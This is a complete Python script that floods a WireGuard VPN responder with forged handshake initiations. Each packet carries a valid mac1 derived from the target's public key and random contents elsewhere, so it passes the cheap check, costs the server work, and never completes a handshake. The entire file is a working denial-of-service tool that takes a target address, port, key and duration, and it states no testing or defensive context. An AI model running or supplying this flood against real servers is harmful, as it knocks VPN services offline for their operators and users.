#!/usr/bin/env python3
"""Floods a WireGuard responder with handshake initiations that carry a VALID
mac1 for its public key (so they pass the cheap check and cost it work or a
cookie reply) and random everything else (so no handshake ever completes).

usage: flood_initiations.py DST_IP DST_PORT RESPONDER_PUBKEY_BASE64 SECONDS

Message layout (whitepaper §5.4.2): type 1, 3 reserved zero bytes, sender
index (4), ephemeral (32), encrypted static (48), encrypted timestamp (28),
mac1 (16), mac2 (16) = 148 bytes. mac1 = BLAKE2s-128 keyed with
BLAKE2s-256("mac1----" || responder public key) over the first 116 bytes;
mac2 stays zero (we never have a cookie). Sends one precomputed batch in a
loop, as fast as one core allows, for SECONDS; prints what it sent and, on a
second line, end_epoch=<unix time when it stopped>.
"""
import base64
import hashlib
import os
import socket
import sys
import time

BATCH = 4096


def initiation(mac1_key: bytes) -> bytes:
    body = b"\x01\x00\x00\x00" + os.urandom(4 + 32 + 48 + 28)
    assert len(body) == 116
    mac1 = hashlib.blake2s(body, digest_size=16, key=mac1_key).digest()
    return body + mac1 + bytes(16)


def main() -> int:
    dst, port, pub_b64, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    pub = base64.b64decode(pub_b64)
    assert len(pub) == 32, "public key must be 32 bytes"
    mac1_key = hashlib.blake2s(b"mac1----" + pub).digest()
    packets = [initiation(mac1_key) for _ in range(BATCH)]
    fam = socket.AF_INET6 if ":" in dst else socket.AF_INET
    s = socket.socket(fam, socket.SOCK_DGRAM)
    s.connect((dst, port))
    send = s.send
    sent = errors = 0
    start = time.monotonic()
    deadline = start + seconds
    while time.monotonic() < deadline:
        for p in packets[:512]:
            try:
                send(p)
                sent += 1
            except OSError:  # ENOBUFS / ECONNREFUSED under pressure: keep going
                errors += 1
        packets = packets[512:] + packets[:512]
    elapsed = time.monotonic() - start
    print(f"sent {sent} initiations in {elapsed:.1f} s ({sent / elapsed:.0f}/s), {errors} send errors")
    print(f"end_epoch={time.time():.3f}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
